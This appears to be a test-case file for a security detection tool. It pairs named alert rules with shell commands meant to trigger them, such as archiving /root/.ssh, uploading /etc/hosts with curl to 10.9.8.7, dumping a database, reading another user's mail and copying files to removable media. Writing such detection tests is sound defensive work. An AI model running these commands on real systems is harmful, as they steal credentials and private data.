## Secrets packed into an archive
mkdir -p /root/.ssh; tar cf /dev/null /root/.ssh
## Upload by a transfer tool in a container
#also Download tool in a container
#also Right of root used for the first time by an image
#also Suspicious Process Execution
#in shop:1
curl -s -T /etc/hosts http://10.9.8.7/
## Folders of people packed into a scratch folder
tar cf /tmp/x.tar /home/ann /etc/hostname
## Archive with a password
cd /tmp; echo x > a; zip -q -P secret x.zip a
## Database dumped by a server's command
#also Shell started by a network server
server 'sqlite3 /tmp/shop.db .dump'
## Mail of others read
#setup mkdir -p /var/mail; echo x > /var/mail/ann
cat /var/mail/ann
## Screen, sound or clipboard recorded
#setup stubs /usr/bin/scrot
scrot /tmp/x.png
## Files gathered by their kind
find /home -name '*.pdf' -exec cp {} /tmp ';'
## Files copied from or to a removable disk
mkdir -p /mnt/usb; cp /etc/hosts /mnt/usb/
## Share of the network mounted by a server's command
#also Shell started by a network server
server 'mount -t nfs 10.9.8.7:/srv /mnt'
